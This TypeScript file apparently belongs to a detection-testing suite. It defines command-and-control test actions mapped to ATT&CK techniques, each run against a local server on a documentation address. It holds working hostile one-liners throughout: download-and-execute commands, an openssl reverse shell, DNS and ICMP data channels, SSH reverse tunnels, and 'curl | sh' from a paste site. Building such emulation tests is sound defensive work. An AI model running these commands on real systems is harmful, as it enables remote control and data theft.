import type { Action } from '../action.ts'
import { eventually, received, server, udpServer, webServer } from '../loopback-server.ts'

/** Web names of services that lead to the loopback interface. */
const names = (name: string) => `echo 198.51.100.7 ${name} >>/etc/hosts\n${webServer(80, 'id\n')}`

/** Channels, downloads and tunnels. */
export const commandAndControl: readonly Action[] = [
  {
    id: 'web-beacon-curl',
    title: 'Web requests of curl with the name of a browser',
    technique: 'T1071.001',
    needs: ['curl'],
    before: webServer(80),
    run: `curl -s -A 'Mozilla/5.0 (Windows NT 10.0)' http://198.51.100.7/ping`,
    effect: received('Mozilla'),
  },
  {
    id: 'web-beacon-python',
    title: 'Web requests of a Python program',
    technique: 'T1071.001',
    before: webServer(80),
    program: {
      language: 'python',
      text: `import urllib.request as u
u.urlopen(u.Request("http://198.51.100.7/ping", headers={"User-Agent": "Mozilla/5.0"})).read()`,
    },
    run: 'python3 $PROGRAM',
    effect: received('Mozilla'),
  },
  {
    id: 'web-beacon-bash',
    title: 'Web request by redirections of bash',
    technique: 'T1071.001',
    shell: 'bash',
    before: webServer(80),
    run: `exec 3<>/dev/tcp/198.51.100.7/80; printf 'GET /ping HTTP/1.0\\r\\n\\r\\n' >&3; read -r x <&3`,
    effect: received('GET /ping'),
  },
  {
    id: 'unusual-port',
    title: 'Connection to a port of known attack tools',
    technique: 'T1571',
    before: server(4444),
    program: {
      language: 'perl',
      text: `use IO::Socket::INET; $s = IO::Socket::INET->new("198.51.100.7:4444") or die; print $s "hi";`,
    },
    run: 'perl $PROGRAM',
    effect: received('hi'),
  },
  {
    id: 'web-on-unusual-port',
    title: 'Web request to an unusual port',
    technique: 'T1571',
    needs: ['curl'],
    before: webServer(31337),
    run: 'curl -s http://198.51.100.7:31337/a',
    effect: received('GET /a'),
  },
  {
    id: 'download-curl',
    title: 'Program downloaded to /tmp by curl',
    technique: 'T1105',
    needs: ['curl'],
    before: webServer(80),
    run: 'curl -s -o /tmp/tool http://198.51.100.7/tool; chmod +x /tmp/tool',
    effect: '[ -x /tmp/tool ]',
  },
  {
    id: 'download-wget',
    title: 'Program downloaded by wget',
    technique: 'T1105',
    needs: ['wget'],
    before: webServer(80),
    run: 'cd /var/tmp && wget -q http://198.51.100.7/tool',
    effect: '[ -s /var/tmp/tool ]',
  },
  {
    id: 'download-busybox',
    title: 'Program downloaded by wget of busybox',
    technique: 'T1105',
    needs: ['busybox'],
    before: webServer(80),
    run: 'busybox wget -q -O /tmp/tool http://198.51.100.7/tool',
    effect: '[ -s /tmp/tool ]',
  },
  {
    id: 'download-renamed-curl',
    title: 'Program downloaded by a renamed copy of curl',
    technique: 'T1105',
    needs: ['curl'],
    before: webServer(80),
    run: 'cp "$(command -v curl)" /tmp/c; /tmp/c -s -o /tmp/tool http://198.51.100.7/tool',
    effect: '[ -s /tmp/tool ]',
  },
  {
    id: 'download-bash',
    title: 'Program downloaded by redirections of bash',
    technique: 'T1105',
    shell: 'bash',
    before: server(8000, 'payload\n'),
    run: 'read -r line </dev/tcp/198.51.100.7/8000; echo "$line" >/tmp/tool',
    effect: 'grep -q payload /tmp/tool',
  },
  {
    id: 'download-python-command',
    title: 'Program downloaded by Python code in an argument',
    technique: 'T1105',
    needs: ['python3'],
    before: webServer(80),
    run: `python3 -c 'import urllib.request; urllib.request.urlretrieve("http://198.51.100.7/a", "/tmp/tool")'`,
    effect: '[ -s /tmp/tool ]',
  },
  {
    id: 'download-python-program',
    title: 'Program downloaded and started by a Python program',
    technique: 'T1105',
    before: webServer(80, '#!/bin/sh\nid >/run/owned\n'),
    program: {
      language: 'python',
      text: `import os, subprocess, urllib.request as u
open("/tmp/tool", "wb").write(u.urlopen("http://198.51.100.7/a").read())
os.chmod("/tmp/tool", 0o755)
subprocess.run(["/tmp/tool"])`,
    },
    run: 'python3 $PROGRAM',
    effect: eventually('[ -s /run/owned ]'),
  },
  {
    id: 'download-perl-program',
    title: 'Program downloaded and started by a Perl program',
    technique: 'T1105',
    before: server(8000, '#!/bin/sh\nid >/run/owned\n'),
    program: {
      language: 'perl',
      text: `use IO::Socket::INET; $s = IO::Socket::INET->new("198.51.100.7:8000");
open F, ">/var/tmp/tool"; print F scalar <$s>, scalar <$s>; close F;
chmod 0755, "/var/tmp/tool"; system "/var/tmp/tool";`,
    },
    run: 'perl $PROGRAM',
    effect: eventually('[ -s /run/owned ]'),
  },
  {
    id: 'download-tls-client',
    title: 'Program downloaded by a TLS client',
    technique: 'T1105',
    needs: ['openssl'],
    before: tls('tool'),
    run: 'echo | openssl s_client -quiet -connect 198.51.100.7:443 >/tmp/tool 2>/dev/null',
    effect: '[ -e /tmp/tool ] && [ $CODE = 0 ]',
  },
  {
    id: 'tls-shell',
    title: 'Shell through a TLS client',
    technique: 'T1573.002',
    needs: ['openssl'],
    before: tls('id >/run/owned'),
    run: 'mkfifo /tmp/s; sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.7:443 >/tmp/s 2>/dev/null',
    effect: eventually('[ -s /run/owned ]'),
  },
  {
    id: 'names-as-channel-bash',
    title: 'Data in questions for names, by bash',
    technique: 'T1071.004',
    shell: 'bash',
    before: udpServer(53),
    run: `for i in 1 2 3 4 5; do printf '\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\14secretdata0%d\\1x\\0\\0\\20\\0\\1' $i >/dev/udp/198.51.100.7/53; done`,
    effect: received('secretdata05'),
  },
  {
    id: 'names-as-channel-python',
    title: 'Data in questions for names, by Python',
    technique: 'T1071.004',
    before: udpServer(53),
    program: {
      language: 'python',
      text: `import binascii, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for part in (b"secret data", b"more data", b"end"):
    label = binascii.hexlify(part)
    s.sendto(b"\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(label)]) + label + b"\\1x\\0\\0\\20\\0\\1", ("198.51.100.7", 53))`,
    },
    run: 'python3 $PROGRAM',
    effect: received('656e64'),
  },
  {
    id: 'raw-icmp-channel',
    title: 'Data in ICMP messages of a raw socket',
    technique: 'T1095',
    program: {
      language: 'python',
      text: `import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0" + b"\\0" * 8, ("198.51.100.7", 0))
s.settimeout(2); print("got", s.recv(99)[:1])`,
    },
    run: 'python3 $PROGRAM',
    effect: 'grep -q got $OUT',
  },
  {
    id: 'netcat-channel',
    title: 'netcat of busybox listens on a port',
    technique: 'T1095',
    needs: ['busybox'],
    run: 'busybox nc -l -p 9001 >/run/received & sleep 0.2; echo x | busybox nc 127.0.0.1 9001 & wait %1',
    effect: eventually('grep -q x /run/received'),
  },
  {
    id: 'relay-perl',
    title: 'Connections forwarded by a Perl program',
    technique: 'T1090.001',
    before: server(8000),
    program: {
      language: 'perl',
      text: `use IO::Socket::INET; $l = IO::Socket::INET->new(Listen => 1, LocalPort => 9000); exit if fork;
$c = $l->accept; $s = IO::Socket::INET->new("198.51.100.7:8000"); sysread $c, $b, 99; syswrite $s, $b;`,
    },
    run: 'perl $PROGRAM',
    effect: `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("127.0.0.1:9000"); print $s "relayed"'\n${received('relayed')}`,
  },
  {
    id: 'packets-redirected',
    title: 'Packets redirected to another address',
    technique: 'T1090',
    needs: ['iptables'],
    run: 'iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 203.0.113.9:8080',
    effect: 'iptables -t nat -S | grep -q DNAT',
  },
  {
    id: 'tunnel-device',
    title: 'Tunnel device created',
    technique: 'T1572',
    needs: ['ip'],
    requires:
      'ip link add probe0 type vxlan id 1 remote 203.0.113.9 dstport 4789 && ip link del probe0',
    run: 'ip link add v0 type vxlan id 7 remote 203.0.113.9 dstport 4789; ip link set v0 up',
    effect: 'ip link show v0',
  },
  {
    id: 'ssh-reverse-tunnel',
    title: 'Reverse tunnel of ssh',
    technique: 'T1572',
    needs: ['ssh'],
    before: server(22),
    run: 'timeout 1 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -N -R 2222:localhost:22 ann@198.51.100.7',
    effect: received('SSH-2.0'),
  },
  {
    id: 'ssh-proxy',
    title: 'Proxy of ssh',
    technique: 'T1090.001',
    needs: ['ssh'],
    before: server(22),
    run: 'timeout 1 ssh -o BatchMode=yes -f -N -D 1080 ann@198.51.100.7',
    effect: received('SSH-2.0'),
  },
  {
    id: 'renamed-ssh-tunnel',
    title: 'Tunnel of a renamed copy of ssh',
    technique: 'T1572',
    needs: ['ssh'],
    before: server(22),
    run: 'cp "$(command -v ssh)" /tmp/s; timeout 1 /tmp/s -o BatchMode=yes -N -R 2222:localhost:22 ann@198.51.100.7',
    effect: received('SSH-2.0'),
  },
  {
    id: 'encoded-channel',
    title: 'Output encoded and sent by curl',
    technique: 'T1132.001',
    needs: ['curl'],
    before: webServer(80),
    run: 'id | base64 | curl -s -d @- http://198.51.100.7/o',
    effect: received('dWlkPT'),
  },
  {
    id: 'paste-service',
    title: 'Commands read from a paste service',
    technique: 'T1102',
    needs: ['curl'],
    before: names('pastebin.com'),
    run: 'curl -s http://pastebin.com/raw/Zz9 | sh',
    effect: received('pastebin'),
  },
  {
    id: 'chat-service',
    title: 'Message sent by a chat service',
    technique: 'T1102',
    before: names('api.telegram.org'),
    program: {
      language: 'python',
      text: 'import urllib.request as u\nu.urlopen("http://api.telegram.org/bot1:x/sendMessage?text=hi").read()',
    },
    run: 'python3 $PROGRAM',
    effect: received('sendMessage'),
  },
  {
    id: 'generated-names',
    title: 'Generated names looked up',
    technique: 'T1568.002',
    run: 'for i in 1 2 3 4 5 6 7 8 9; do getent hosts x$(echo $i | md5sum | head -c 12).top; done; :',
  },
  {
    id: 'packet-signal',
    title: 'Program that waits for a packet with a filter',
    technique: 'T1205.002',
    program: {
      language: 'python',
      text: `import ctypes, socket, struct
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 65535))
s.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HxxxxxxP", 1, ctypes.addressof(code)))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"knock", ("127.0.0.1", 9))
s.settimeout(2); print("got" if b"knock" in s.recv(999) else "")`,
    },
    run: 'python3 $PROGRAM',
    effect: 'grep -q got $OUT',
  },
  {
    id: 'tool-copied-by-connection',
    title: 'Tool received from another machine by netcat',
    technique: 'T1105',
    needs: ['busybox'],
    before: server(8000, 'tool\n'),
    run: 'busybox nc 198.51.100.7 8000 </dev/null >/tmp/tool & sleep 0.2; chmod 755 /tmp/tool; kill $!',
    effect: '[ -x /tmp/tool ]',
  },
]

/** A TLS server with a certificate of its own that sends a line. */
function tls(line: string): string {
  return `cd /run
openssl req -x509 -newkey rsa:2048 -nodes -keyout k -out c -subj /CN=x -days 1 2>/dev/null
(sleep 1; echo '${line}'; sleep 0.3; echo exit; sleep 0.5) | openssl s_server -quiet -accept 443 -key k -cert c -naccept 1 >/dev/null 2>&1 &
sleep 0.3`
}
